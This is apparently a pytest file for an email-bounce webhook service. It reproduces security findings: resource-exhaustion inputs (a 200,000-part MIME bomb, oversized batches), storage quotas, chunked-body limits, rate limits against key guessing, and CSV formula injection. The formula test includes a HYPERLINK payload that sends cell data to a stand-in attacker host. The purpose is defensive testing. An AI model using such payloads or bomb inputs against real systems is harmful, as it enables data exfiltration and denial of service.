"""Issue 15, in the app: bounded work per request, no silent truncation, limits and quotas,
replays, formula cells. Each test reproduces one of the issue's numbered findings (the
number is in its name) against the real HTTP server and a real Redis; the ones that need
gunicorn, a killed Redis or slow sockets are in tests/test_faults.py.
"""
from __future__ import annotations

import base64
import contextlib
import csv
import http.client
import io
import time

import orjson
import pytest
import redis
import requests

from tests.conftest import OPERATOR_KEY, Api, LiveServer
from webhook import create_app
from webhook.provider_config import configure


@contextlib.contextmanager
def served(make_settings, redis_url: str, **settings):
    """The app with these settings behind a live server: (app, server)."""
    app = create_app(make_settings(redis_url, **settings))
    server = LiveServer(app)
    try:
        yield app, server
    finally:
        server.stop()


def server_ms(r: requests.Response) -> float:
    """The server's own time for a request (Server-Timing: app;dur=...)."""
    return float(r.headers["Server-Timing"].split("dur=")[1])


def mime_bomb(parts: int) -> bytes:
    """A multipart message of ``parts`` parts without a header line of their own (no
    Content-Type: a part without one is text/plain)."""
    head = (b"From: MAILER-DAEMON@mx.example.net\r\nTo: sender@example.com\r\nSubject: Undelivered Mail\r\n"
            b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n")
    return head + b"--b\r\n\r\nx\r\n" * parts + b"--b--\r\n"


def dsn(recipients: int, tag: str = "") -> bytes:
    """A delivery status notification naming ``recipients`` failed recipients."""
    blocks = "".join(f"Final-Recipient: rfc822; user{i}{tag}@example.org\r\nAction: failed\r\nStatus: 5.1.1\r\n"
                     f"Diagnostic-Code: smtp; 550 5.1.1 user unknown\r\n\r\n" for i in range(recipients))
    return (f"From: MAILER-DAEMON@mx.example.net\r\nTo: sender@example.com\r\nSubject: Undelivered Mail\r\n"
            f"MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"r\"\r\n\r\n"
            f"--r\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n"
            f"--r\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.net\r\n\r\n"
            f"{blocks}--r--\r\n").encode()


RAW = {"Content-Type": "message/rfc822"}


# -- 1. one tenant key takes the CPU from everyone ------------------------------------------------

def test_1_a_message_of_200000_headerless_parts_is_cut_at_the_part_cap_not_parsed_for_seconds(api):
    from classifier.parse import limits
    from classifier.parse.load import part_cut

    raw = mime_bomb(200_000)
    assert part_cut(raw) is not None and raw[:part_cut(raw)].count(b"\r\n--b") == limits.MAX_PARTS
    r = api.post(f"/v1/inbound/{api.tenant}", data=raw, headers=RAW)
    # before: 4-7 s of CPU, then 400 over_budget; now the parts past the cap are never parsed
    assert r.status_code == 200, r.text
    assert r.json()["truncated"] is True
    assert server_ms(r) < 2000, r.headers["Server-Timing"]


def test_1_classify_of_9_million_characters_is_refused_naming_the_bound(api):
    items = [{"diagnostic": f"{i} " + "x" * 4995} for i in range(1800)]
    r = api.post("/v1/classify", json=items)
    assert r.status_code == 413, r.text[:300]
    assert r.json()["error"] == "batch_text_too_large" and "REBOUND_MAX_BATCH_TEXT" in r.json()["message"]


@pytest.fixture
def tight(make_settings, redis_url):
    """A server whose work budget per request is short: 0.3 s."""
    app = create_app(make_settings(redis_url, work_seconds=0.3))
    server = LiveServer(app)
    tenant, key = app.extensions["rebound"].store.tenants.create("Tight")
    yield app, Api(server.url, tenant, key)
    server.stop()


def test_1_events_with_thousands_of_unrecognised_diagnostics_stop_at_the_work_budget(tight):
    app, api = tight
    words = ["quux", "zorb", "flim", "blent", "vorp", "snark", "gloam", "trell"]
    events = [{"id": f"u{i}", "type": "bounce", "recipient": f"u{i}@example.org",
               "diagnostic": " ".join(words[(i + j) % 8] + str(i * 7 + j) for j in range(12))}
              for i in range(3000)]
    started = time.monotonic()
    r = api.post("/v1/events", json=events)
    assert r.status_code == 413, r.text[:300]
    assert r.json()["error"] == "over_budget" and "REBOUND_WORK_SECONDS" in r.json()["message"]
    assert time.monotonic() - started < 10           # before: 24 s for 10,000
    store = app.extensions["rebound"].store
    assert store.check(api.tenant, ["u1@example.org"])[0].sendable          # nothing stored


# -- 2. one tenant key fills Redis for everyone ----------------------------------------------

def test_2_raw_payloads_beyond_the_tenants_quota_are_not_kept_and_the_answer_says_so(make_settings, redis_url):
    with served(make_settings, redis_url, raw_quota_bytes=120_000) as (app, server):
        store = app.extensions["rebound"].store
        tenant, key = store.tenants.create("Flood")
        api = Api(server.url, tenant, key)
        kept = []
        for n in range(8):
            body = dsn(1, tag=f"-{n}") + b"X-Padding: " + b"p" * 30_000 + b"\r\n"
            r = api.post(f"/v1/inbound/{tenant}", data=body, headers=RAW)
            assert r.status_code == 200 and r.json()["accepted"] == 1, r.text   # the events are stored
            kept.append(r.json()["raw_kept"])
        assert kept[:3] == [True] * 3 and kept[-2:] == [False, False], kept
        assert store.raw.used(tenant) <= 120_000
        held = sum(store.r.memory_usage(k) for k in store.r.scan_iter(f"rb:t:{{{tenant}}}:raw:*"))
        assert held < 200_000
        metrics = requests.get(server.url + "/metrics", headers={"Authorization": f"Bearer {OPERATOR_KEY}"},
                               timeout=10).text
        assert "rebound_raw_not_kept_total" in metrics


def test_2_a_full_redis_is_a_503_with_retry_after_not_a_500(private_redis, make_settings):
    with served(make_settings, private_redis.url) as (app, server):
        store = app.extensions["rebound"].store
        tenant, key = store.tenants.create("Full")
        api = Api(server.url, tenant, key)
        assert api.post("/v1/events", json={"id": "e0", "type": "complaint",
                                            "recipient": "a@example.org"}).status_code == 200
        used = int(store.r.info("memory")["used_memory"])
        store.r.config_set("maxmemory-policy", "noeviction")
        store.r.config_set("maxmemory", str(used + 64 * 1024))
        try:
            store.r.set("ballast", b"x" * (128 * 1024))
        except redis.exceptions.OutOfMemoryError:
            pass                                          # refused or not: Redis is now at its budget
        statuses = set()
        for i in range(20):
            r = api.post("/v1/events", json={"id": f"e{i + 1}", "type": "complaint",
                                              "recipient": f"b{i}@example.org", "diagnostic": "x" * 2000})
            statuses.add(r.status_code)
            if r.status_code == 503:
                assert r.json()["error"] == "store_full" and int(r.headers["Retry-After"]) > 0
                break
        assert 503 in statuses and 500 not in statuses, statuses
        metrics = requests.get(server.url + "/metrics", headers={"Authorization": f"Bearer {OPERATOR_KEY}"},
                               timeout=10).text
        assert "rebound_store_full_total{" in metrics and "rebound_store_memory_max_bytes" in metrics


# -- 3. silent truncation -------------------------------------------------------------------------

LIMIT = 64 * 1024


@pytest.fixture
def small_bodies(make_settings, redis_url):
    """A server taking bodies of at most 64 KiB, and a tenant with Mailgun configured."""
    app = create_app(make_settings(redis_url, max_body_bytes=LIMIT))
    server = LiveServer(app)
    store = app.extensions["rebound"].store
    tenant, key = store.tenants.create("Chunks")
    yield app, server, Api(server.url, tenant, key)
    server.stop()


def post_chunked(base: str, path: str, body: bytes, headers: dict) -> tuple[int, dict]:
    """POST ``body`` with Transfer-Encoding: chunked (no Content-Length)."""
    host, port = base.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        conn.request("POST", path, body=(body[i:i + 8192] for i in range(0, len(body), 8192)),
                     headers={**headers, "Transfer-Encoding": "chunked"}, encode_chunked=True)
        r = conn.getresponse()
        return r.status, orjson.loads(r.read() or b"{}")
    finally:
        conn.close()


@pytest.mark.parametrize("route", ["import", "events", "inbound", "webhook"])
def test_3_a_chunked_body_over_the_limit_is_413_on_every_route_and_nothing_is_stored(small_bodies, route):
    app, server, api = small_bodies
    auth = {"Authorization": f"Bearer {api.key}"}
    rows = "address\n" + "".join(f"cut{i:07d}@cut.example\n" for i in range(LIMIT // 20 + 500))
    path, body, headers = {
        "import": ("/v1/suppressions/import", rows.encode(), {**auth, "Content-Type": "text/csv"}),
        "events": ("/v1/events", orjson.dumps([{"id": f"c{i}", "type": "complaint",
                                               "recipient": f"cut{i}@cut.example"} for i in range(2000)]),
                   {**auth, "Content-Type": "application/json"}),
        "inbound": (f"/v1/inbound/{api.tenant}", dsn(600), {**auth, **RAW}),
        "webhook": (f"/v1/webhooks/mailgun/{api.tenant}", b'{"signature": {}, "pad": "' + b"p" * LIMIT + b'"}',
                    {"Content-Type": "application/json"}),
    }[route]
    assert len(body) > LIMIT
    status, answer = post_chunked(server.url, path, body, headers)
    assert status == 413 and answer["error"] == "payload_too_large", answer
    store = app.extensions["rebound"].store
    assert [k for k in store.r.scan_iter(f"rb:t:*{api.tenant}*")] == []
    # the same body within the limit, chunked, is read whole: the import names every row
    if route == "import":
        fits = "address\n" + "".join(f"ok{i:05d}@ok.example\n" for i in range(2000))
        status, answer = post_chunked(server.url, path, fits.encode(), headers)
        assert status == 200 and answer["rows"] == 2000 and answer["new"] == 2000, answer


def test_3_a_dsn_with_10000_recipients_says_how_many_were_dropped(api):
    r = api.post(f"/v1/inbound/{api.tenant}", data=dsn(10_000), headers=RAW)
    assert r.status_code == 200, r.text[:300]
    body = r.json()
    assert body["accepted"] == 500 and body["recipients_dropped"] == 9_500, {k: v for k, v in body.items()
                                                                            if k != "recipients"}


# -- 6. CSV formula injection ------------------------------------------------------------------

def test_6_export_cells_that_would_be_formulas_reach_the_spreadsheet_as_text_and_import_back_as_they_were(api):
    notes = {"f1@example.org": '=HYPERLINK("http://evil.example/?"&A1,"click")', "f2@example.org": "+1 555",
             "f3@example.org": "-2+3", "f4@example.org": "@SUM(A1)", "f6@example.org": "plain note"}
    for address, note in notes.items():
        assert api.put(f"/v1/suppressions/{address}", json={"note": note}).status_code == 200
    text = api.get("/v1/suppressions/export").text
    rows = {row["address"]: row for row in csv.DictReader(io.StringIO(text))}
    for address, note in notes.items():
        cell = rows[address]["note"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert cell in (note, "'" + note)
    assert rows["f6@example.org"]["note"] == "plain note"
    # the export imports back as it is: the notes as they were
    for address in notes:
        api.delete(f"/v1/suppressions/{address}", json={"note": "again"})
    r = api.post("/v1/suppressions/import", data=text.encode(), headers={"Content-Type": "text/csv"})
    assert r.status_code == 200 and r.json()["new"] == len(notes), r.text
    again = {row["address"]: row["note"] for row in
             csv.DictReader(io.StringIO(api.get("/v1/suppressions/export").text))}
    assert again == {a: rows[a]["note"] for a in notes}
    from store.listing import unneutralise
    assert {a: unneutralise(n) for a, n in again.items()} == notes


# -- 9. rate limits -------------------------------------------------------------------------------------

def test_9_wrong_keys_get_429_after_the_failed_authentication_limit(make_settings, redis_url):
    with served(make_settings, redis_url, rate_auth_failures="10/minute") as (app, server):
        tenant, key = app.extensions["rebound"].store.tenants.create("Guessed")
        statuses = [requests.get(f"{server.url}/v1/recipients/a@example.org", timeout=10,
                                 headers={"Authorization": f"Bearer rbk_wrong{i}"}).status_code for i in range(15)]
        assert statuses[:10] == [401] * 10 and set(statuses[11:]) == {429}, statuses
        # refused before the key is looked at: the right key from that address waits too
        r = requests.get(f"{server.url}/v1/recipients/a@example.org", headers={"Authorization": f"Bearer {key}"},
                         timeout=10)
        assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1
        metrics = requests.get(server.url + "/metrics", headers={"Authorization": f"Bearer {OPERATOR_KEY}"},
                               timeout=10)
        assert metrics.status_code == 429               # the operator key from there as well


def test_9_webhook_passwords_guessed_get_429_for_that_webhook(make_settings, redis_url):
    with served(make_settings, redis_url, rate_webhook_auth_failures="8/minute",
                rate_auth_failures="") as (app, server):
        store = app.extensions["rebound"].store
        tenant, _ = store.tenants.create("Hooked")
        configure(store, tenant, "postmark", {"username": "pm", "password": "right-password"}, grace_seconds=0)
        url = f"{server.url}/v1/webhooks/postmark/{tenant}"

        def attempt(password: str) -> requests.Response:
            auth = base64.b64encode(f"pm:{password}".encode()).decode()
            return requests.post(url, json={"RecordType": "Delivery", "Recipient": "a@example.org",
                                            "MessageID": "m1", "DeliveredAt": "2026-01-01T00:00:00Z"},
                                 headers={"Authorization": f"Basic {auth}"}, timeout=10)
        statuses = [attempt(f"guess{i}").status_code for i in range(12)]
        assert statuses[:8] == [401] * 8 and set(statuses[9:]) == {429}, statuses
        r = attempt("right-password")
        assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1


def test_9_a_tenants_request_rate_is_limited_per_route_class_with_retry_after(make_settings, redis_url):
    with served(make_settings, redis_url, rate_lookup="5/minute", rate_other="3/minute") as (app, server):
        store = app.extensions["rebound"].store
        tenant, key = store.tenants.create("Busy")
        second_key = store.tenants.add_key(tenant)
        api, api2 = Api(server.url, tenant, key), Api(server.url, tenant, second_key)
        other_tenant, other_key = store.tenants.create("Calm")
        calm = Api(server.url, other_tenant, other_key)
        lookups = [api.get("/v1/recipients/a@example.org").status_code for _ in range(5)]
        assert lookups == [200] * 5
        for call in (lambda: api.get("/v1/recipients/a@example.org"),              # the fast path
                     lambda: api2.post("/v1/recipients/check", json={"addresses": ["a@example.org"]})):
            r = call()
            assert r.status_code == 429 and r.json()["error"] == "too_many_requests", r.text
            assert int(r.headers["Retry-After"]) >= 1
        assert api.get("/v1/policy").status_code == 200                    # another class: its own count
        assert calm.get("/v1/recipients/a@example.org").status_code == 200  # another tenant
        metrics = requests.get(server.url + "/metrics", headers={"Authorization": f"Bearer {OPERATOR_KEY}"},
                               timeout=10).text
        assert 'rebound_rate_limited_total{limit="lookup"}' in metrics


def test_9_metrics_need_the_operator_key_unless_made_public(live_server, make_settings, redis_url):
    assert requests.get(live_server.url + "/metrics", timeout=10).status_code == 401
    r = requests.get(live_server.url + "/metrics", headers={"Authorization": f"Bearer {OPERATOR_KEY}"}, timeout=10)
    assert r.status_code == 200 and "rebound_http_requests_total" in r.text
    with served(make_settings, redis_url, metrics_public=True) as (app, server):
        assert requests.get(server.url + "/metrics", timeout=10).status_code == 200
